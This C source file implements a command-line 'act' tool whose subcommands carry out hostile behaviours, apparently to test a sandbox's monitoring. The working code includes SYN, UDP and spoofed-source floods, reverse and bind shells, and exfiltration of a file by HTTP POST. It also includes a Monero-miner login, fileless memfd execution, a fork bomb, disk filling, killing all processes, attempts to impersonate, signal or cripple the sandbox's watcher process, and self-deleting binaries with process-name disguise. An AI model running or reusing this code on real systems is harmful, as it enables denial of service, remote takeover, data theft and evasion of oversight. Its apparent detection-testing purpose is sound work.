/* Acts of the sandbox samples: harmless, because inside the sealed network nobody is reached, and without it nothing is. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/ip.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fsuid.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

static void burn(double seconds) { double end = now() + seconds; volatile unsigned long x = 1; while (now() < end) for (int i = 0; i < 100000; i++) x = x * 6364136223846793005UL + 1; }

static struct sockaddr_in at(const char *ip, int port) { struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)}; inet_pton(AF_INET, ip, &a.sin_addr); return a; }

/* Asks one server, by hand; static programs have no resolver. */
static int resolve(const char *server, const char *name, char *ip) {
  unsigned char q[512] = {0x12, 0x34, 1, 0, 0, 1}; int n = 12; const char *p = name;
  while (*p) { int l = strcspn(p, "."); q[n++] = l; memcpy(q + n, p, l); n += l; p += l; if (*p == '.') p++; }
  q[n++] = 0; q[n++] = 0; q[n++] = 1; q[n++] = 0; q[n++] = 1;
  struct sockaddr_in a = at(server, 53); int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0); struct timeval t = {2, 0};
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t); sendto(s, q, n, 0, (void *)&a, sizeof a);
  unsigned char r[512]; int got = recv(s, r, sizeof r, 0); close(s);
  if (got < n + 16) return -1;
  inet_ntop(AF_INET, r + got - 4, ip, 64); return 0;
}

static const char *server(void) { static char s[64] = "127.0.0.1"; FILE *f = fopen("/etc/resolv.conf", "r"); char line[256];
  while (f && fgets(line, sizeof line, f)) if (sscanf(line, "nameserver %63s", s) == 1) break;
  if (f) fclose(f);
  return s; }

static int dial(const char *host, int port) {
  char ip[64]; if (inet_addr(host) == INADDR_NONE) { if (resolve(server(), host, ip)) return -1; } else snprintf(ip, sizeof ip, "%s", host);
  struct sockaddr_in a = at(ip, port); int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0); struct timeval t = {2, 0};
  setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &t, sizeof t); setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t);
  if (connect(s, (void *)&a, sizeof a)) { close(s); return -1; } return s;
}

static void say(int s, const void *text, int length) { char b[1024]; if (send(s, text, length, MSG_NOSIGNAL) > 0) (void)!recv(s, b, sizeof b, 0); }

static int hello(unsigned char *b, const char *name) { /* a TLS 1.2 ClientHello with a server name, which a real server takes */
  static const unsigned char more[] = {0, 10, 0, 6, 0, 4, 0, 29, 0, 23 /* groups */, 0, 11, 0, 2, 1, 0 /* point formats */, 0, 13, 0, 8, 0, 6, 4, 3, 8, 4, 4, 1 /* signatures */};
  int n = strlen(name), at = 0; unsigned char x[64 + 256]; int e = 0;
  x[e++] = 0; x[e++] = 0; x[e++] = 0; x[e++] = n + 5; x[e++] = 0; x[e++] = n + 3; x[e++] = 0; x[e++] = 0; x[e++] = n; memcpy(x + e, name, n); e += n;
  memcpy(x + e, more, sizeof more); e += sizeof more;
  int body = 2 + 32 + 1 + 2 + 4 + 2 + 2 + e; b[at++] = 22; b[at++] = 3; b[at++] = 1; b[at++] = (body + 4) >> 8; b[at++] = (body + 4) & 255;
  b[at++] = 1; b[at++] = 0; b[at++] = body >> 8; b[at++] = body & 255; b[at++] = 3; b[at++] = 3; for (int i = 0; i < 32; i++) b[at++] = i * 7;
  b[at++] = 0; b[at++] = 0; b[at++] = 4; b[at++] = 0xc0; b[at++] = 0x2f; b[at++] = 0xc0; b[at++] = 0x2b; b[at++] = 1; b[at++] = 0; b[at++] = e >> 8; b[at++] = e & 255;
  memcpy(b + at, x, e); return at + e; }

static unsigned short sum(void *p, int n) { unsigned long s = 0; unsigned short *w = p; while (n > 1) { s += *w++; n -= 2; } s = (s >> 16) + (s & 0xffff); return ~(s + (s >> 16)); }

static void synflood(const char *ip, int port, double seconds) {
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_TCP), one = 1; struct sockaddr_in a = at(ip, port); if (s < 0) { perror("raw socket"); exit(1); }
  setsockopt(s, IPPROTO_IP, IP_HDRINCL, &one, sizeof one); double end = now() + seconds;
  struct { struct iphdr ip; struct tcphdr tcp; } __attribute__((packed)) p; 
  for (unsigned i = 0; now() < end; i++) { memset(&p, 0, sizeof p); p.ip.version = 4; p.ip.ihl = 5; p.ip.ttl = 64; p.ip.protocol = 6; p.ip.tot_len = htons(sizeof p);
    p.ip.saddr = htonl(0xac110002); p.ip.daddr = a.sin_addr.s_addr; p.tcp.source = htons(1024 + i % 60000); p.tcp.dest = htons(port); p.tcp.syn = 1; p.tcp.doff = 5; p.tcp.window = htons(512); p.tcp.seq = i;
    p.ip.check = sum(&p.ip, 20); sendto(s, &p, sizeof p, 0, (void *)&a, sizeof a); if (i % 50 == 0) usleep(1000); } }

/* TCP, UDP and ICMP to ever new ports of the documentation ranges, as fast as it goes: no table holds them all. */
static void packetflood(double seconds) {
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); if (s < 0) { perror("raw socket"); exit(1); }
  struct { struct iphdr ip; unsigned char body[44]; } __attribute__((packed)) p; double end = now() + seconds; unsigned r = 1;
  const unsigned char protocols[] = {IPPROTO_TCP, IPPROTO_UDP, IPPROTO_ICMP};
  while (now() < end) for (int i = 0; i < 64; i++) { r = r * 1664525 + 1013904223; memset(&p, 0, sizeof p);
    p.ip.version = 4; p.ip.ihl = 5; p.ip.ttl = 64; p.ip.protocol = protocols[i % 3]; p.ip.tot_len = htons(sizeof p); p.ip.daddr = htonl((r & 256 ? 0xc6336400 : 0xcb007100) | (r >> 24));
    unsigned short source = htons(1024 + (r >> 4) % 60000), port = htons(1 + (r >> 9) % 65000), length = htons(sizeof p.body); memcpy(p.body, &source, 2); memcpy(p.body + 2, &port, 2);
    if (p.ip.protocol == IPPROTO_TCP) { p.body[12] = 5 << 4; p.body[13] = 2; } else if (p.ip.protocol == IPPROTO_UDP) memcpy(p.body + 4, &length, 2); else { p.body[0] = 8; p.body[1] = 0; }
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = p.ip.daddr}; sendto(s, &p, sizeof p, 0, (void *)&a, sizeof a); } }

/* One datagram to a place, then a flood that says it comes from there; past the taps of the way out when asked to. */
static void spoofflood(const char *ip, int port, const char *from, double seconds, int bypass) {
  int u = socket(AF_INET, SOCK_DGRAM, 0), s = bypass ? socket(AF_PACKET, SOCK_DGRAM, 0) : socket(AF_INET, SOCK_RAW, IPPROTO_RAW), one = 1; struct sockaddr_in a = at(ip, port), f = at(from, 7777);
  struct sockaddr_ll l = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = 1, .sll_halen = 6}; if (s < 0) { perror("raw socket"); exit(1); }
  if (bypass) setsockopt(s, SOL_PACKET, 20 /* PACKET_QDISC_BYPASS */, &one, sizeof one);
  struct { struct iphdr ip; unsigned short udp[4]; char body[100]; } __attribute__((packed)) p; double end = now() + seconds; sendto(u, "hello", 5, 0, (void *)&f, sizeof f);
  for (unsigned i = 0; now() < end; i++) { memset(&p, 0, sizeof p); p.ip.version = 4; p.ip.ihl = 5; p.ip.ttl = 64; p.ip.protocol = 17; p.ip.tot_len = htons(sizeof p);
    p.ip.saddr = f.sin_addr.s_addr; p.ip.daddr = a.sin_addr.s_addr; p.udp[0] = f.sin_port; p.udp[1] = a.sin_port; p.udp[2] = htons(sizeof p - 20); p.ip.check = sum(&p.ip, 20);
    sendto(s, &p, sizeof p, 0, bypass ? (void *)&l : (void *)&a, bypass ? sizeof l : sizeof a); if (i % 4 == 0) usleep(1500); } }

/* Talks from an address that is nobody's: everything is local in the sealed network. */
static void fromelsewhere(const char *from, const char *ip, int port) {
  char b[512]; struct sockaddr_in me = at(from, 0), a = at(ip, port), d = at(ip, 53); int s = socket(AF_INET, SOCK_STREAM, 0), u = socket(AF_INET, SOCK_DGRAM, 0), n; struct timeval t = {2, 0};
  const unsigned char q[] = {7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 5, 'p', 'l', 'a', 'c', 'e', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, 0, 1, 0, 1};
  setsockopt(u, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t); if (bind(s, (void *)&me, sizeof me) || bind(u, (void *)&me, sizeof me) || connect(s, (void *)&a, sizeof a)) { perror(from); exit(1); }
  n = snprintf(b, sizeof b, "GET / HTTP/1.0\r\nHost: place.example\r\n\r\n"); send(s, b, n, 0); while (read(s, b, sizeof b) > 0); sendto(u, q, sizeof q, 0, (void *)&d, sizeof d); if (recv(u, b, sizeof b, 0) > 0) puts("answered"); }

static void serve(int port, const char *shell) {
  int l = socket(AF_INET, SOCK_STREAM, 0), one = 1; setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one); struct sockaddr_in a = at("0.0.0.0", port);
  if (bind(l, (void *)&a, sizeof a) || listen(l, 4)) { perror("listen"); exit(1); }
  for (;;) { int c = accept(l, 0, 0); if (c >= 0 && !fork()) { for (int i = 0; i < 3; i++) dup2(c, i); execl(shell, "sh", "-i", (char *)0); _exit(1); } close(c); } }

/* The first thread ends, as pthread_exit in main does; another listens, and ends by itself a while after every window. */
static void *listening(void *port) {
  double end = now() + 60; int l = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = at("0.0.0.0", atoi(port)); struct timeval t = {1, 0};
  setsockopt(l, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t); if (bind(l, (void *)&a, sizeof a) || listen(l, 4)) { perror("listen"); exit(1); }
  while (now() < end) { int c = accept(l, 0, 0); if (c >= 0) close(c); } exit(0); }
static void leaderless(char *port) { pthread_t t; if (pthread_create(&t, 0, listening, port)) exit(1); syscall(SYS_exit, 0); }

/* What must be found whatever else is tried: a program is made, runs for a while, and is gone before the end. */
static void vanish(const char *self, const char *seconds) {
  char b[65536]; int n, in = open(self, O_RDONLY), out = open("/tmp/vanish", O_CREAT | O_WRONLY, 0755); while ((n = read(in, b, sizeof b)) > 0) (void)!write(out, b, n);
  close(in); close(out); pid_t child = fork(); if (!child) { execl("/tmp/vanish", "/tmp/vanish", "burn", seconds, (char *)0); _exit(1); }
  usleep(300000); unlink("/tmp/vanish"); waitpid(child, 0, 0); }

/* Tries to be the sandbox's own watcher to its gate: reads the gate's words, takes the watcher's user and name, and says the word. */
static void opengate(void) {
  char w[4096] = {0}; int f = open("/proc/1/cmdline", O_RDONLY), n = f < 0 ? 0 : read(f, w, sizeof w - 1); const char *word[8] = {0}; int k = 0;
  for (int i = 0; i < n && k < 8; i += strlen(w + i) + 1) word[k++] = w + i;
  const char *name = k > 3 ? word[2] : "sentinel-gate"; if (k > 3) (void)!setresuid(atoi(word[3]), atoi(word[3]), atoi(word[3]));
  struct sockaddr_un a = {.sun_family = AF_UNIX}; int s = socket(AF_UNIX, SOCK_STREAM, 0), l = strlen(name); memcpy(a.sun_path + 1, name, l < 100 ? l : 100);
  if (bind(s, (void *)&a, 3 + l) || listen(s, 1)) return;
  int c = accept(s, 0, 0); if (c >= 0) (void)!write(c, "+", 1); pause(); }

/* The watcher is the one with a high user number; it is made one's own, in every way the kernel has, and then signalled. */
static int watcher(int *uid) {
  for (int pid = 2; pid < 400; pid++) { char n[64], line[256]; snprintf(n, sizeof n, "/proc/%d/status", pid); FILE *f = fopen(n, "r");
    while (f && fgets(line, sizeof line, f)) if (sscanf(line, "Uid: %d", uid) == 1 && *uid >= 50000) { fclose(f); return pid; }
    if (f) fclose(f); }
  return 0; }
static void become(int uid) {
  (void)!setfsuid(uid);
#if defined(__x86_64__)
  long r; __asm__ volatile("int $0x80" : "=a"(r) : "a"(70L), "b"((long)0xffff), "c"((long)uid) : "memory"); /* setreuid, 16 bits */
  __asm__ volatile("int $0x80" : "=a"(r) : "a"(208L), "b"(-1L), "c"((long)uid), "d"(-1L) : "memory"); /* setresuid, 32 bits */
#endif
  (void)!setreuid(-1, uid); (void)!setresuid(-1, uid, 0); }
static void attack(int number) {
  int uid = 0, pid = watcher(&uid), p[2]; if (!pid) return;
  /* A descriptor's owner is sent the signal by the kernel. */
  if (!pipe(p)) { fcntl(p[0], F_SETOWN, pid); fcntl(p[0], 10 /* F_SETSIG */, number); fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK); (void)!write(p[1], "x", 1); }
  become(uid); kill(pid, number); usleep(100000); }

/* The kernel sends a descriptor's owner any signal that is asked for: each of these would end a program that does not expect it. The end comes at once after. */
static void signals(void) {
  int uid = 0, pid = watcher(&uid); const int all[] = {SIGTERM, SIGQUIT, SIGSEGV, SIGABRT, 16 /* SIGSTKFLT */, SIGXCPU, SIGSYS, 32, 33, 35, 64};
  for (unsigned i = 0; pid && i < sizeof all / sizeof *all; i++) { int p[2]; if (pipe(p)) return;
    fcntl(p[0], F_SETOWN, pid); fcntl(p[0], 10 /* F_SETSIG */, all[i]); fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK); (void)!write(p[1], "x", 1); usleep(1000); } }

/* The kernel is told to end the watcher first when memory is short: the file for it is root's to write. */
static void meddle(void) { int uid = 0, pid = watcher(&uid), f; char n[64]; snprintf(n, sizeof n, "/proc/%d/oom_score_adj", pid); f = open(n, O_WRONLY); (void)!write(f, "1000", 4); close(f); }

/* Every call by which one process reaches another, put to the watcher: each is refused or does it no harm. What they say is of no use. */
static void probe(void) {
  int uid = 0, pid = watcher(&uid), p[2], i; char n[64], b[256]; if (!pid) return;
  const int mild[] = {0, SIGTERM, SIGHUP, SIGCONT, SIGSTOP, SIGKILL};
  for (i = 0; i < 6; i++) { kill(pid, mild[i]); syscall(SYS_tkill, pid, mild[i]); syscall(SYS_tgkill, pid, pid, mild[i]); memset(b, 0, sizeof b); ((int *)b)[0] = mild[i]; ((int *)b)[2] = -1; syscall(SYS_rt_sigqueueinfo, pid, mild[i], b); syscall(SYS_rt_tgsigqueueinfo, pid, pid, mild[i], b); }
  int f = syscall(SYS_pidfd_open, pid, 0); for (i = 0; i < 6; i++) syscall(SYS_pidfd_send_signal, f, mild[i], 0, 0);
  for (i = 0; i < 32; i++) { int got = syscall(438 /* pidfd_getfd */, f, i, 0); if (got >= 0) close(got); }
  syscall(SYS_ptrace, 16 /* ATTACH */, pid, 0, 0); syscall(SYS_ptrace, 0x4206 /* SEIZE */, pid, 0, 0);
  struct { void *at; size_t length; } mine = {b, 8}, its = {(void *)0x400000, 8}; syscall(SYS_process_vm_readv, pid, &mine, 1, &its, 1, 0); syscall(SYS_process_vm_writev, pid, &mine, 1, &its, 1, 0);
  unsigned long low[2] = {0, 0}; for (i = 0; i < 16; i++) syscall(SYS_prlimit64, pid, i, low, 0);
  syscall(SYS_setpriority, 0, pid, 19); syscall(SYS_setpriority, 2, uid, 19); syscall(SYS_ioprio_set, 1, pid, 3 << 13); syscall(SYS_sched_setaffinity, pid, sizeof low, low);
  memset(b, 0, sizeof b); syscall(SYS_sched_setscheduler, pid, 5 /* IDLE */, b); ((unsigned *)b)[0] = 48; ((unsigned *)b)[1] = 5; syscall(SYS_sched_setattr, pid, b, 0);
  syscall(440 /* process_madvise */, f, &its, 1, 21 /* PAGEOUT */, 0); syscall(448 /* process_mrelease */, f, 0); syscall(SYS_kcmp, getpid(), pid, 0, 0, 0);
  syscall(SYS_move_pages, pid, 0UL, 0, 0, 0, 0); syscall(SYS_migrate_pages, pid, 0UL, 0, 0); syscall(SYS_get_robust_list, pid, b, b + 8); syscall(SYS_setpgid, pid, 0); syscall(SYS_getsid, pid);
  memset(b, 0, sizeof b); syscall(SYS_perf_event_open, b, pid, -1, -1, 0UL); syscall(SYS_bpf, 0, b, sizeof b); syscall(SYS_userfaultfd, 0); syscall(SYS_fanotify_init, 0, 0); syscall(SYS_keyctl, 0, -3, 0); syscall(425 /* io_uring_setup */, 8, b); syscall(435 /* clone3 */, b, 64UL);
  struct { unsigned short length; void *code; } none = {0, 0}; syscall(SYS_seccomp, 1, 8 /* NEW_LISTENER */, &none);
  const unsigned long spaces[] = {0x00020000 /* mount */, 0x02000000 /* cgroup */, 0x04000000 /* uts */, 0x08000000 /* ipc */, 0x10000000 /* user */, 0x20000000 /* pid */, 0x40000000 /* net */};
  for (i = 0; i < 7; i++) syscall(SYS_unshare, spaces[i]);
  const char *rooms[] = {"mnt", "pid", "net", "user", "ipc", "uts", "cgroup"}; for (i = 0; i < 7; i++) { snprintf(n, sizeof n, "/proc/%d/ns/%s", pid, rooms[i]); int r = open(n, O_RDONLY); if (r >= 0) { syscall(SYS_setns, r, 0); close(r); } }
  syscall(SYS_setns, f, 0x20000000); syscall(SYS_mount, "none", "/proc", "tmpfs", 0, 0); syscall(SYS_umount2, "/proc", 2); syscall(SYS_pivot_root, "/", "/"); syscall(SYS_open_by_handle_at, -100, b, 0);
  const char *files[] = {"mem", "environ", "comm", "clear_refs", "coredump_filter", "timerslack_ns", "sched", "uid_map", "setgroups", "attr/current", "cwd/x", "root/x", "exe", "fd/1", "map_files", "stack", "syscall"};
  for (i = 0; i < 17; i++) for (int w = 0; w < 2; w++) { snprintf(n, sizeof n, "/proc/%d/%s", pid, files[i]); int r = open(n, w ? O_WRONLY : O_RDONLY); if (r >= 0) { (void)!(w ? write(r, "1000", 4) : read(r, b, sizeof b)); close(r); } }
  /* Its own rights over it: who waits for a descriptor, a lease, a lock or urgent data is told of it, mildly. */
  if (!pipe(p)) { int owner[2] = {0, pid}; fcntl(p[0], 15 /* F_SETOWN_EX */, owner); fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK); (void)!write(p[1], "x", 1); }
  /* Whatever listens under a name without a file is spoken to, as a watcher would be. */
  FILE *u = fopen("/proc/net/unix", "r"); char line[512]; while (u && fgets(line, sizeof line, u)) { char *name = strchr(line, '@'); if (!name) continue; name[strcspn(name, "\n")] = 0;
    struct sockaddr_un a = {.sun_family = AF_UNIX}; int l = strlen(name), s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0); memcpy(a.sun_path + 1, name + 1, l - 1 < 100 ? l - 1 : 100); if (!connect(s, (void *)&a, 2 + l)) { (void)!write(s, "+", 1); usleep(1000); } close(s); }
  if (u) fclose(u);
  kill(-1, SIGURG); }

/* A program by a path that leads the watcher elsewhere than the kernel, or nowhere; it lives for that long. */
static void by(const char *path, const char *seconds) { pid_t c = vfork(); if (!c) { execl(path, path, "burn", seconds, (char *)0); _exit(1); } int s; waitpid(c, &s, 0); if (s) printf("%s did not start\n", path); }
static void copy(const char *from, const char *to) { char b[65536]; int n, in = open(from, O_RDONLY), out = open(to, O_CREAT | O_WRONLY, 0755); while ((n = read(in, b, sizeof b)) > 0) (void)!write(out, b, n); close(in); close(out); }
static void script(const char *path, const char *by) { char b[256]; int f = open(path, O_CREAT | O_WRONLY, 0755), n = snprintf(b, sizeof b, "#!%s\n", by); (void)!write(f, b, n); close(f); }
static void hidden(const char *seconds) {
  copy("/proc/self/exe", "/tmp/w"); copy("/tmp/w", "/tmp/\377"); int f = open("/tmp", O_RDONLY | O_DIRECTORY); dup2(f, 77); f = open("/tmp/w", O_RDONLY); dup2(f, 78); (void)!symlink("/proc/self/fd/78", "/tmp/link");
  by("/proc/self/root/tmp/w", seconds); by("/dev/../proc/self/fd/77/w", seconds); by("/tmp/link", seconds); by("/tmp/\377", seconds);
  mkdir("/tmp/d", 0755); (void)!chdir("/tmp/d"); rmdir("/tmp/d"); by("../w", seconds); (void)!chdir("/"); script("/tmp/one", "/tmp/w"); script("/tmp/two", "/tmp/one"); pid_t c = vfork(); if (!c) { execl("/tmp/two", "/tmp/two", (char *)0); _exit(1); } waitpid(c, 0, 0);
  const char *made[] = {"/tmp/w", "/tmp/\377", "/tmp/link", "/tmp/one", "/tmp/two"}; for (int i = 0; i < 5; i++) unlink(made[i]); sleep(1); }

/* Connections to ever new ports, datagrams and programs, all at once, each as fast as it goes. */
static void floods(double seconds) {
  double end = now() + seconds; struct linger none = {1, 0}; signal(SIGCHLD, SIG_IGN);
  for (int kind = 0; kind < 3; kind++) if (!fork()) { int u = socket(AF_INET, SOCK_DGRAM, 0); struct sockaddr_in a;
    for (unsigned i = 0; now() < end; i++)
      if (kind == 0) { int s = socket(AF_INET, SOCK_STREAM, 0); a = at("198.51.100.95", 1 + i % 65000); setsockopt(s, SOL_SOCKET, SO_LINGER, &none, sizeof none); (void)!connect(s, (void *)&a, sizeof a); close(s); }
      else if (kind == 1) { a = at("198.51.100.96", 1 + i % 65000); sendto(u, "x", 1, 0, (void *)&a, sizeof a); }
      else { signal(SIGCHLD, SIG_DFL); pid_t c = vfork(); if (!c) { execl("/proc/self/exe", "act", "burn", "0", (char *)0); _exit(1); } if (c > 0) waitpid(c, 0, 0); }
    _exit(0); }
  while (now() < end + 0.5) usleep(50000); }

/* Calls itself what the watchers are called. */
static void lookalike(char **v) {
  const char *name = "/.init gate sentinel"; prctl(PR_SET_NAME, "sentinel"); size_t room = strlen(v[0]); strncpy(v[0], name, room); }

int main(int argc, char **v) {
#define IS(name, least) (argc > least && !strcmp(v[1], name))
  char ip[64]; unsigned char b[2048]; setvbuf(stdout, 0, _IOLBF, 0);
  if (IS("stratum", 3)) { for (;;) { int s = dial(v[2], atoi(v[3])); const char *m = "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\",\"algo\":[\"rx/0\"]}}\n"; if (s >= 0) say(s, m, strlen(m)); burn(argc > 4 ? atof(v[4]) : 5); if (s >= 0) close(s); } }
  else if (IS("resolve", 3)) { if (resolve(v[2], v[3], ip)) return 1; puts(ip); }
  else if (IS("tls", 4)) { int s = dial(v[2], atoi(v[3])); if (s < 0) return 1; say(s, b, hello(b, v[4])); close(s); }
  else if (IS("say", 3)) { int s = dial(v[2], atoi(v[3])); if (s < 0) return 1; if (argc > 4) say(s, v[4], strlen(v[4])); close(s); }
  else if (IS("send", 4)) { int s = dial(v[2], atoi(v[3])), f = open(v[4], O_RDONLY); int n = f < 0 ? 0 : read(f, b, sizeof b); char head[256]; if (s < 0 || n <= 0) return 1;
    n = snprintf(head, sizeof head, "POST /collect HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n", v[2], n) + 0 * n; send(s, head, n, MSG_NOSIGNAL | MSG_MORE); lseek(f, 0, SEEK_SET); n = read(f, b, sizeof b); say(s, b, n); close(s); }
  else if (IS("get", 4)) { int s = dial(v[2], atoi(v[3])), n; if (s < 0) return 1; n = snprintf((char *)b, sizeof b, "GET %s HTTP/1.0\r\nHost: %s\r\n\r\n", v[4], v[2]); send(s, b, n, MSG_NOSIGNAL); while ((n = read(s, b, sizeof b)) > 0) (void)!write(1, b, n); }
  else if (IS("scan", 4)) for (int p = atoi(v[3]); p <= atoi(v[4]); p++) { int s = dial(v[2], p); if (s >= 0) close(s); }
  else if (IS("sweep", 5)) for (int h = atoi(v[3]); h <= atoi(v[4]); h++) { snprintf(ip, sizeof ip, "%.11s.%d", v[2], h & 255); int s = dial(ip, atoi(v[5])); if (s >= 0) close(s); }
  else if (IS("packetflood", 2)) packetflood(atof(v[2]));
  else if (IS("stay", 1)) { for (int i = 1; i < 32; i++) signal(i, SIG_IGN); for (;;) pause(); }
  else if (IS("synflood", 4)) synflood(v[2], atoi(v[3]), atof(v[4]));
  else if (IS("udpflood", 4)) { int s = socket(AF_INET, SOCK_DGRAM, 0); struct sockaddr_in a = at(v[2], atoi(v[3])); double end = now() + atof(v[4]); memset(b, 'x', 512); for (unsigned i = 0; now() < end; i++) { sendto(s, b, 512, 0, (void *)&a, sizeof a); if (i % 50 == 0) usleep(1000); } }
  else if (IS("spoofflood", 5)) spoofflood(v[2], atoi(v[3]), v[4], atof(v[5]), argc > 6);
  else if (IS("fromelsewhere", 4)) { fromelsewhere(v[2], v[3], atoi(v[4])); sleep(2); }
  else if (IS("memfd", 2)) { int in = open(v[2], O_RDONLY), m = memfd_create("kworker", 0), n; while ((n = read(in, b, sizeof b)) > 0) (void)!write(m, b, n); char *none[] = {0}; fexecve(m, v + 2, none); perror("memfd"); return 1; }
  else if (IS("shell", 4)) { int s = dial(v[2], atoi(v[3])); if (s < 0) return 1; struct timeval t = {0, 0}; setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t); for (int i = 0; i < 3; i++) dup2(s, i); execl(v[4], "sh", argc > 5 ? (char *)0 : "-i", (char *)0); return 1; }
  else if (IS("serve", 3)) serve(atoi(v[2]), v[3]); else if (IS("leaderless", 2)) leaderless(v[2]); else if (IS("meddle", 1)) { meddle(); vanish(v[0], "2"); }
  else if (IS("burn", 2)) burn(atof(v[2]));
  else if (IS("dnsflood", 2)) for (int i = 0; i < atoi(v[2]); i++) { char n[64]; snprintf(n, sizeof n, "h%d.flood.example", i); resolve(server(), n, ip); }
  else if (IS("connflood", 4)) { for (int i = 0; i < atoi(v[4]); i++) { int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = at(v[2], atoi(v[3])); if (s < 0 || connect(s, (void *)&a, sizeof a)) { if (s >= 0) close(s); usleep(1000); } } sleep(1); }
  else if (IS("forkbomb", 1)) for (;;) { if (fork() < 0) usleep(1000); }
  else if (IS("fill", 2)) { for (int i = 0;; i++) { char n[256]; snprintf(n, sizeof n, "%s/fill%d", v[2], i); int f = open(n, O_CREAT | O_WRONLY, 0600); memset(b, 1, sizeof b); for (long k = 0; k < 32 << 9 && write(f, b, sizeof b) > 0; k++); close(f); } }
  else if (IS("logflood", 2)) { double end = now() + atof(v[2]); while (now() < end) puts("a line of no use at all, again and again and again and again and again"); }
  else if (IS("killall", 1)) { double end = now() + 3; while (now() < end) { kill(-1, SIGKILL); for (int i = 2; i < 300; i++) kill(i, SIGKILL); usleep(10000); } }
  else if (IS("vanish", 2)) vanish("/proc/self/exe", v[2]);
  else if (IS("opengate", 1)) opengate();
  else if (IS("attack", 3)) { sleep(1); attack(atoi(v[2])); vanish("/proc/self/exe", v[3]); sleep(1); }
  else if (IS("signals", 1)) { sleep(1); signals(); usleep(100000); }
  else if (IS("probe", 2)) { sleep(1); probe(); vanish("/proc/self/exe", v[2]); sleep(1); }
  else if (IS("hidden", 2)) hidden(v[2]);
  else if (IS("floods", 2)) floods(atof(v[2]));
  else if (IS("lookalike", 2)) { lookalike(v); vanish("/proc/self/exe", v[2]); }
  else if (IS("starts", 3)) { /* so many programs of a millisecond, one after the other */
    for (int i = 0; i < atoi(v[2]); i++) { pid_t c = vfork(); if (!c) { execl(v[3], v[3], "true", (char *)0); _exit(1); } waitpid(c, 0, 0); }
    sleep(1); }
  else { fprintf(stderr, "act: no such act\n"); return 64; }
  return 0;
}
